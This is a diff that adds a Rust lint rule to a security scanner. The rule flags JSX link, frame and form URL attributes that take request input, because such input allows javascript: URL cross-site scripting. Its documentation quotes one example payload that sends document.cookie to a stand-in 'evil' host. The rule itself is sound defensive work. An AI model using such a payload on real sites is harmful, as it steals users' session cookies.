@@ -1,0 +1,85 @@
+use crate::check::{Cx, JsxSite, Rule, RuleMeta, Unknown, accept, on, sink};
+use crate::flow::guards_fixes_scheme as fixes_scheme;
+use crate::rule_doc;
+use crate::syntax::Family;
+use vibeguard_core::{Confidence, Severity};
+
+rule_doc! {
+    /// ## What it does
+    /// Flags JSX URL attributes the browser follows or loads, set from request or page
+    /// input: `href` (`<a>`, `<area>`, Next.js `<Link>`), `src` of `<iframe>`, `<frame>`
+    /// and `<embed>`, `data` of `<object>`, `action` of `<form>` and `formAction`, with a
+    /// value from `searchParams`, `useSearchParams()`, `useParams()`, the Next.js router's
+    /// `query`, React Router's `useLocation()`, or the page address (`location.hash`,
+    /// `document.URL`, ...). A scheme check on the branch (`startsWith("https://")`,
+    /// `startsWith("/")`, `new URL(u).protocol` against constants, an anchored
+    /// `/^https?:/` test), a host allowlist, a constant prefix that fixes the scheme
+    /// (`"/users/" + id`), `encodeURIComponent` or `sanitizeUrl` (@braintree/sanitize-url)
+    /// makes it safe.
+    ///
+    /// ## Why is this bad?
+    /// A `javascript:` (or `data:`) URL in a link or frame runs script with the page's
+    /// privileges when it is clicked or loaded: `?next=javascript:fetch('//evil/'+
+    /// document.cookie)` is cross-site scripting (CWE-79) that HTML escaping does not stop.
+    ///
+    /// ## Example
+    /// ```jsx
+    /// const next = useSearchParams().get("next");
+    /// return <a href={next}>Continue</a>;
+    /// ```
+    ///
+    /// ## Use instead
+    /// ```jsx
+    /// const next = useSearchParams().get("next") ?? "/";
+    /// return <a href={next.startsWith("/") ? next : "/"}>Continue</a>;
+    /// ```
+    JsScriptUrl
+}
+
+static META: RuleMeta = RuleMeta {
+    id: "js/javascript-url",
+    title: "Link or frame URL from input (javascript: URLs)",
+    cwe: &[79],
+    severity: Severity::Medium,
+    confidence: Confidence::Medium,
+    message: "URL from input used as a link or frame address: a javascript: URL runs script; allow only http(s) or same-site paths",
+    family: Family::Js,
+    keywords: &["href", "src=", "data=", "action="],
+    calls: &[],
+    on: on::JSX,
+};
+
+/// Does attribute `attr` of element `tag` hold a URL the browser navigates to or loads
+/// as a document?
+fn url_attribute(tag: &str, attr: &str) -> bool {
+    let tag = tag.rsplit('.').next().unwrap_or(tag);
+    match attr {
+        "href" | "xlinkHref" => true,
+        "src" => matches!(tag, "iframe" | "frame" | "embed"),
+        "data" => tag == "object",
+        "action" => tag == "form",
+        "formAction" => matches!(tag, "button" | "input"),
+        _ => false,
+    }
+}
+
+impl Rule for JsScriptUrl {
+    crate::rule_meta!(META);
+    fn jsx(&self, cx: &mut Cx<'_, '_>, site: &JsxSite<'_>) {
+        if !url_attribute(site.tag, site.attr) {
+            return;
+        }
+        // `"/users/" + id`, `https://x.example/${q}`: the constant start fixes the scheme.
+        if site.val.prefix.as_deref().is_some_and(fixes_scheme) {
+            return;
+        }
+        cx.sink_from(
+            site.span,
+            site.val,
+            sink::SCRIPT_URL,
+            accept::REQUEST,
+            Unknown::Skip,
+            None,
+        );
+    }
+}
